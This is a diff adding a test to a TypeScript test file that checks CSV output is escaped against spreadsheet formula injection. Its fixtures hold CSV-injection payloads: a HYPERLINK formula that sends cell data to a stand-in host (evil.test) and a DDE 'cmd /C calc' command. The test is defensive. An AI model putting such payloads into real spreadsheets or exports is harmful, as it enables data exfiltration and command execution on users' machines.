@@ -9,6 +9,7 @@ import { formatRenderResult, RENDER_SENTINEL, UNTRUSTED_BEGIN, UNTRUSTED_END } f
 import { asideRenderScript, stepFileName } from '../render/engines/aside-render.js';
 import type { PdfStep } from '../render/index.js';
 import { evalValueBytes } from '../render/orchestrate/outputs.js';
+import { withoutCsvFormulas } from '../render/orchestrate/csv-formulas.js';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -585,4 +586,15 @@ test('a header or footer element of class url shows the given address as text; o
   assert.equal(out, '<div style="font-size:9px"><span class="big">file:///home/a/Q3 &lt;draft&gt;.md</span> <b>file:///home/a/Q3 &lt;draft&gt;.md</b> <span class="title"></span> <span class="urls"></span></div>');
   const plain = '<span class="pageNumber"></span> of <span class="totalPages"></span>';
   assert.equal(fillUrlClass(plain, shown), plain);
+});
+
+// A page's text in a .csv is opened by a spreadsheet, where a cell starting `=`, `+`, `-` or `@`
+// is a formula (`=HYPERLINK("http://evil/?"&A1,…)` sends the sheet's cells away when clicked).
+test('an --eval value written to a .csv has no cell a spreadsheet would run as a formula; numbers and other files are as written', async () => {
+  const page = 'name,amount\n=HYPERLINK("http://evil.test/?"&A2,"Open"),-244.34\n@SUM(A1:A9),+3\n"=cmd|\' /C calc\'!A0",ok\nplain,"quoted, comma",-x\na;=b;c\t+1+1\n';
+  const csv = (await evalValueBytes(page, 'out.csv')).toString('utf8');
+  assert.equal(csv, 'name,amount\n\'=HYPERLINK("http://evil.test/?"&A2,"Open"),-244.34\n\'@SUM(A1:A9),+3\n"\'=cmd|\' /C calc\'!A0",ok\nplain,"quoted, comma",\'-x\na;\'=b;c\t\'+1+1\n');
+  assert.equal((await evalValueBytes(`data:text/csv,${encodeURIComponent('=1+1,2')}`, 'OUT.CSV')).toString('utf8'), "'=1+1,2");
+  assert.equal((await evalValueBytes('=1+1', 'out.txt')).toString('utf8'), '=1+1', 'a .txt is text, not a sheet');
+  assert.equal(withoutCsvFormulas('-10%,+3.5e2,-1,234.5'), '-10%,+3.5e2,-1,234.5', 'plain numbers stay numbers');
 });
